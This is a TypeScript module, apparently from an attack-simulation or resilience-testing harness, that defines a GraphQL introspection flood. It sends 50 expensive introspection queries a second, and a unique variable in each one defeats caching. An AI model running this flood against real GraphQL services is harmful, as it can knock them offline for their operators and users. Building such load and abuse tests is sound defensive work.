import { getIntrospectionQuery } from 'graphql';
import { hostileRequests, type Attack } from './attack.ts';

const PER_SECOND = 50;
const ADDRESS = '203.0.113.1';

/** The query of GraphQL tools, with a variable whose value no answer in a cache has. */
const QUERY = getIntrospectionQuery()
  .replace('query IntrospectionQuery', 'query IntrospectionQuery($name: String!)')
  .replace('__schema {', 'asked: __type(name: $name) { name } __schema {');

/** Sends introspections, 50 a second, and waits for each answer. */
export const introspectionFlood: Attack = (target) => {
  const requests = hostileRequests(target);
  let serial = 0;
  const timer = setInterval(() => {
    serial += 1;
    void requests.post({ query: QUERY, variables: { name: `T${serial}` } }, { address: ADDRESS });
  }, 1_000 / PER_SECOND);

  return Promise.resolve({
    stop: () => {
      clearInterval(timer);
      requests.hangUp();
      return Promise.resolve();
    },
  });
};
